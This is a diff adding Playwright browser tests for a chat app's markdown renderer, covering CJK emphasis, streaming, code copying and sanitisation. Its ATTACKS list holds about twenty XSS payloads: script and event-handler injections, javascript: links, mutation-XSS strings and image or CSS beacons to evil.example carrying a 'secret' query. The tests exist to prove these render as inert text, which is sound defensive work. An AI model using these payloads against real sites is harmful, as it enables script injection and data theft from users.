@@ -1,0 +1,256 @@
+"""What the model writes as markdown, and what nobody may make of it."""
+
+import random
+from typing import Any
+
+import pytest
+
+from tests.browser.conftest import Chat, Open
+from tests.browser.scripted import Gate, Script, delta, failed, finish, problem, thought
+
+sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
+expect = sync_api.expect
+pytestmark = pytest.mark.browser
+
+RENDER = """async ({module, sources}) => {
+    const { blocks, elements } = await import(module);
+    return sources.map((source) => {
+        const box = document.createElement("div");
+        box.append(elements(blocks(source)));
+        return box.innerHTML.trim();
+    });
+}"""
+
+
+def rendered(chat: Chat, *sources: str) -> list[str]:
+    """The HTML of each source."""
+    found: list[str] = chat.page.evaluate(RENDER, {"module": chat.module("markdown.js"), "sources": sources})
+    return found
+
+
+# Chinese emphasis: punctuation stands right at the word.
+
+MARKS = "。，、；：？！…—·「」『』《》〈〉【】（）“”‘’～．％"
+CJK = [f"这是**重点{mark}**说明" for mark in MARKS[:28]] + [
+    "含**「重点」**内容",
+    "**重点：**说明",
+    "* **具体：**与其说",
+    "~~删除（括号）。~~继续",
+    "**《红楼梦》**是小说",
+    "他说*“你好。”*然后走了",
+    "**注意！**不要**（例如）**这样",
+]
+ENGLISH = {
+    "**bold** and *italic*": "<p><strong>bold</strong> and <em>italic</em></p>",
+    "a**b**c": "<p>a<strong>b</strong>c</p>",
+    "snake_case_name": "<p>snake_case_name</p>",
+    "2 * 3 * 4": "<p>2 * 3 * 4</p>",
+    "**not bold **": "<p>**not bold **</p>",
+    "~~gone~~ here": "<p><del>gone</del> here</p>",
+    '**"quoted."** Next': '<p><strong>"quoted."</strong> Next</p>',
+    '**a."**b': '<p>**a."**b</p>',
+}
+
+
+def test_chinese_emphasis(chat: Chat) -> None:
+    assert len(CJK) == 35
+    for source, html in zip(CJK, rendered(chat, *CJK), strict=True):
+        assert "**" not in html and "~~" not in html, f"{source} became {html}"
+        assert any(tag in html for tag in ("<strong>", "<em>", "<del>")), f"{source} became {html}"
+
+
+def test_english_emphasis_is_as_ever(chat: Chat) -> None:
+    assert dict(zip(ENGLISH, rendered(chat, *ENGLISH), strict=True)) == ENGLISH
+
+
+def test_blocks(chat: Chat) -> None:
+    sources = {
+        "# One": "<h3>One</h3>",
+        "###### Six": "<h6>Six</h6>",
+        "a\nb": "<p>a<br>b</p>",
+        "- [x] done\n- [ ] open": '<ul>\n<li><input checked="" disabled="" type="checkbox"> done</li>\n'
+        '<li><input disabled="" type="checkbox"> open</li>\n</ul>',
+        "|a|b|\n|-|-:|\n|x<br>y|2|": "x<br>y",
+        "![cat](https://evil.example/?q=secret)": ">cat</a>",
+        "[x](javascript:alert(1))": "<p><a>x</a></p>",
+        "[x](data:text/html,hi)": "<p><a>x</a></p>",
+        "<b>x</b>": "<p>&lt;b&gt;x&lt;/b&gt;</p>",
+        "<pre><b>**x**": "&lt;pre&gt;&lt;b&gt;",
+        "5 < 6 && 7 > 3": "<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>",
+    }
+    for (source, wanted), html in zip(sources.items(), rendered(chat, *sources), strict=True):
+        assert wanted in html.replace("\n\n", "\n"), f"{source} became {html}"
+    (table,) = rendered(chat, "|a|b|\n|-|-:|\n|1|2|")
+    assert '<td align="right">2</td>' in table
+
+
+# While it streams
+
+STREAM = """async ({module, source, cuts}) => {
+    const { Body } = await import(module);
+    const whole = new Body(() => {});
+    whole.set(source);
+    return cuts.map((pieces) => {
+        const body = new Body(() => {});
+        for (const piece of pieces) { body.push(piece); body.flush(); }
+        body.finish();
+        const [one, other] = [body, whole].map(({ element }) => element.innerHTML.replace(/>\\s+</g, "><").trim());
+        return one === other ? null : [one, other];
+    });
+}"""
+DOCUMENTS = {
+    "English": (
+        "Intro with **bold**.\n\n## Title\n\n- one\n- two\n  - nested `code`\n- three\n\n1. a\n\n2. b\n\n"
+        "> quote\n> more\n\n---\n\nSetext\n======\n\nEnd of it."
+    ),
+    "Chinese": (
+        "先看**重点：**说明。\n\n### 步骤\n\n1. **准备：**买菜\n2. 炒菜\n\n| 菜 | 价 |\n|---|---:|\n| 鱼 | 30 |\n"
+        "| 肉 | 40 |\n\n最后*“好吃。”*完。"
+    ),
+    "code": (
+        "Text:\n\n```python\ndef f():\n    return '**no**'\n\n\nprint(f())\n```\n\nmore\n\n```\nplain\n```\n\n"
+        "    indented\n\n- in a list:\n  ```js\n  x = 1;\n  ```\n- end"
+    ),
+    "references": (
+        "See [the guide][1] and [it][two].\n\nMore text here.\n\n[1]: https://example.org/guide\n"
+        "[two]: https://example.org/2"
+    ),
+    "odd": (
+        "**unclosed\n\n`tick\n\n| half | table\n\n<div>raw\n\n</div> * * *\n\n\ttab\n\na\\\nb  \nc\r\nd\n\n"
+        "- x\n\n  more of x\n\n- y\n\n---\n\n1) one\n\n2) two\n3 no item"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", list(DOCUMENTS))
+def test_any_cut_gives_the_same_page(chat: Chat, name: str) -> None:
+    source = DOCUMENTS[name]
+    rng = random.Random(name)
+    cuts = [list(source)]
+    for _ in range(40):
+        at = sorted(rng.sample(range(1, len(source)), rng.randrange(1, 20)))
+        cuts.append([source[a:b] for a, b in zip([0, *at], [*at, len(source)], strict=True)])
+    given: dict[str, Any] = {"module": chat.module("stream.js"), "source": source, "cuts": cuts}
+    for pieces, differs in zip(cuts, chat.page.evaluate(STREAM, given), strict=True):
+        assert differs is None, f"cut as {pieces}"
+
+
+def test_an_open_fence_shows_its_code(chat: Chat, script: Script) -> None:
+    gate = Gate()
+    script.will(delta("Here:\n\n```python\nprint("), gate, delta("1)\n```\n\nDone **so"), *finish())
+    chat.ask("Code?")
+    expect(chat.answer.locator(".code code")).to_have_text("print(")
+    gate.set()
+    expect(chat.answer.locator(".code code .hljs-number")).to_have_text("1")
+    expect(chat.answer.locator("p").last).to_have_text("Done **so")
+
+
+def test_code_is_copied_exactly(chat: Chat, script: Script) -> None:
+    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    source = "def f():\n\treturn '<b>&amp;'  # 中文\n\n\nf()"
+    script.will_say(f"So:\n\n```python\n{source}\n```\n\nAnd `inline`.")
+    chat.ask("Code?")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.button("Copy code").click()
+    expect(chat.button("Copied")).to_be_visible()
+    assert chat.page.evaluate("navigator.clipboard.readText()") == source
+
+
+def test_copying_works_without_the_clipboard_api(new_chat: Open, script: Script) -> None:
+    """On plain http://192.168.x.x there is no clipboard API and no randomUUID."""
+    chat = new_chat()
+    chat.page.add_init_script(
+        "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
+        "delete Crypto.prototype.randomUUID;"
+        "window.copied = [];"
+        "document.addEventListener('copy', () => copied.push(String(document.activeElement.value)));"
+    )
+    chat.open()
+    script.will_say("Some **bold** text.")
+    chat.ask("Hello")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.answers.last.get_by_role("button", name="Copy").click()
+    expect(chat.button("Copied")).to_be_visible()
+    assert chat.page.evaluate("copied") == ["Some **bold** text."]
+
+
+def test_the_plain_text_can_be_seen(chat: Chat, script: Script) -> None:
+    script.will_say("Some **bold** text.")
+    chat.ask("Hello")
+    expect(chat.answer.locator("strong")).to_have_text("bold")
+    chat.answers.last.get_by_role("button", name="More").click()
+    chat.button("Show as plain text").click()
+    expect(chat.answer).to_have_text("Some **bold** text.")
+    chat.answers.last.get_by_role("button", name="More").click()
+    chat.button("Show formatted").click()
+    expect(chat.answer.locator("strong")).to_have_text("bold")
+
+
+# What an attacker would write
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg onload=alert(3)><a xlink:href='javascript:alert(3)'><text>x</text></a></svg>",
+    "<a href='javascript:alert(4)'>x</a> [x](javascript:alert(4)) [x](JaVaScRiPt&#58;alert(4)) <javascript:alert(4)>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>",
+    '<form id="app"><input name="messages"></form><a id=list name=menu></a>',
+    "![](http://evil.example/?q=secret) ![x](//evil.example/p.png) <img src=http://evil.example/q>",
+    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe><object data=http://evil.example></object>",
+    "<style>@import 'http://evil.example/css'; body { background: url(http://evil.example/bg) }</style>",
+    "`<img src=x onerror=alert(7)>` **<img src=x onerror=alert(7)>** [<img src=x onerror=alert(7)>](http://a.b)",
+    "```html\n<img src=x onerror=alert(8)>\n</code></pre><script>alert(8)</script>\n```",
+    '```"><img src=x onerror=alert(9)>\nx\n```',
+    "| <img src=x onerror=alert(10)> |\n|---|\n| <svg/onload=alert(10)> |",
+    '[x]: javascript:alert(11) "<img src=x onerror=alert(11)>"\n\n[x] ![y][x]',
+    "<noscript><p title='</noscript><img src=x onerror=alert(12)>'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(13)>'>",
+    "<link rel=stylesheet href=http://evil.example/s.css><base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<button formaction=javascript:alert(14)>x</button><details open ontoggle=alert(14)>",
+    "{alert(15)} ${alert(15)} {{constructor.constructor('alert(15)')()}} {n}",
+    "&lt;img src=x onerror=alert(16)&gt; &#60;script&#62;alert(16)&#60;/script&#62;",
+]
+PLACED = """async ({module, source, inside}) => {
+    const { blocks, elements } = await import(module);
+    const box = document.createElement("div");
+    document.body.append(box);
+    box.append(elements(blocks(source)));
+    await new Promise(requestAnimationFrame);
+    return [...box.querySelectorAll(inside)].map((node) => node.outerHTML);
+}"""
+INSIDE = (
+    "script, img, form, math, style, iframe, object, link, meta, base, button[formaction], [onload], [onerror], "
+    "[href^='j' i]"
+)
+
+
+def test_an_attack_stays_text_wherever_it_comes_from(tab: Chat, script: Script) -> None:
+    """As question, title, answer, thought, snippet, model's name and error: nothing runs, nothing is asked."""
+    attack = "\n\n".join(ATTACKS)
+    script.records.add(attack, attack, attack)
+    chat = tab.open()
+    chat.rows.first.locator("a").click()
+    expect(chat.answers).to_have_count(1)
+    script.will(thought(attack), delta(attack), *finish())
+    script.will(delta("x"), failed(attack, attack))
+    script.will_refuse(500, problem(ATTACKS[1], attack))
+    for count in (2, 3, 4):
+        chat.ask(attack)
+        expect(chat.answers).to_have_count(count)
+        expect(chat.button("Send")).to_be_visible()
+    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
+    chat.page.get_by_role("searchbox").fill("alert(2)")
+    expect(chat.page.locator(".snippet mark")).to_have_text("alert(2)")
+    script.ready = script.ready | {"model": ATTACKS[1], "wanted": ATTACKS[0], "why": attack, "hint": attack}
+    chat.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
+    expect(chat.page.locator("#notice")).to_be_visible()
+    inside = chat.page.locator("#messages, #conversations, #notice, #bar, #toasts").locator(INSIDE)
+    expect(inside).to_have_count(0)
+    assert all(url.startswith(chat.address) for url in chat.requests)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_alone(chat: Chat, attack: str) -> None:
+    """One by one, since markup may hide markup."""
+    given = {"module": chat.module("markdown.js"), "source": attack, "inside": INSIDE}
+    assert chat.page.evaluate(PLACED, given) == []
